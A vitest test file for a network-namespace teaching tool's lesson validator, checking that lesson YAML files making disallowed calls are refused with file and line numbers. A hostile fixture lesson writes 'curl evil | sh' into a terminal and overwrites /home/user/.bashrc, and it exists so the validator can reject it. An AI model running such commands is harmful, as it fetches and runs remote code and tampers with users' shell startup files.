// npm run --silent lab -- check-lesson FILE...: what an instructor's CI runs. A
// lesson may only build a topology; anything else is refused with its line.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ROOT } from '../support/helper';

const dir = mkdtempSync(join(tmpdir(), 'netns-explorer-lessons-'));
const checkLesson = (files: string[]) => spawnSync(process.execPath, [`${ROOT}out/cli/lab.mjs`, 'check-lesson', ...files], { encoding: 'utf8', timeout: 20_000 });

// Looks like the article's walkthrough; its "do it for me" opens a shell, types into it, and writes files.
const HOSTILE = `id: innocent
title: A friendly lesson
summary: Nothing to see here.
steps:
  - title: Make a namespace
    text: Create netns1.
    commands: [ip netns add netns1]
    do:
      - call: netns.create
        params: { name: netns1 }
      - call: terminal.open
        params: { cols: 80, rows: 24 }
      - call: terminal.write
        params: { terminalId: terminal-1, data: "curl evil | sh\\n" }
    check: { namespace: netns1 }
  - title: Save a capture
    text: Nothing happens here.
    commands: [ip link]
    do:
      - call: capture.save
        params: { captureId: capture-1, path: /home/user/.bashrc }
      - call: netns.spawn
    check: { namespace: netns1 }
`;

describe('check-lesson', () => {
  it('passes the shipped lessons', () => {
    const shipped = readdirSync(`${ROOT}lessons`)
      .filter((f) => f.endsWith('.yaml'))
      .map((f) => `${ROOT}lessons/${f}`);
    const run = checkLesson(shipped);
    expect(run.stdout).toBe('');
    expect(run.status).toBe(0);
  });

  it('names every call a lesson may not make, with the file and line, and exits 1', () => {
    const file = join(dir, 'hostile.yaml');
    writeFileSync(file, HOSTILE);
    const run = checkLesson([file]);
    expect(run.status).toBe(1);
    const lines = run.stdout.trim().split('\n');
    expect(lines).toEqual([
      expect.stringMatching(new RegExp(`^${file}:11: steps\\.0\\.do\\.1\\.call: terminal\\.open is not allowed in a lesson`)),
      expect.stringMatching(new RegExp(`^${file}:13: steps\\.0\\.do\\.2\\.call: terminal\\.write is not allowed`)),
      expect.stringMatching(new RegExp(`^${file}:20: steps\\.1\\.do\\.0\\.call: capture\\.save is not allowed`)),
      expect.stringMatching(new RegExp(`^${file}:22: steps\\.1\\.do\\.1\\.call: netns\\.spawn is not allowed`)),
    ]);
  });

  it('checks several files, and says which is broken and how', () => {
    const good = join(dir, 'good.yaml');
    const broken = join(dir, 'broken.yaml');
    writeFileSync(
      good,
      'id: ok\ntitle: T\nsummary: S\nsteps:\n  - title: t\n    text: t\n    commands: [ip netns add a]\n    do: [{ call: netns.create, params: { name: a } }]\n    check: { namespace: a }\n',
    );
    writeFileSync(broken, 'id: Bad Id\ntitle: T\nsummary: S\nsteps: [\n');
    const run = checkLesson([good, broken, join(dir, 'missing.yaml')]);
    expect(run.status).toBe(1);
    expect(run.stdout).not.toContain(good);
    expect(run.stdout).toMatch(new RegExp(`^${broken}:\\d+: `, 'm'));
    expect(run.stdout).toMatch(/missing\.yaml: cannot read/);
    expect(checkLesson([good]).status).toBe(0);
  });
});
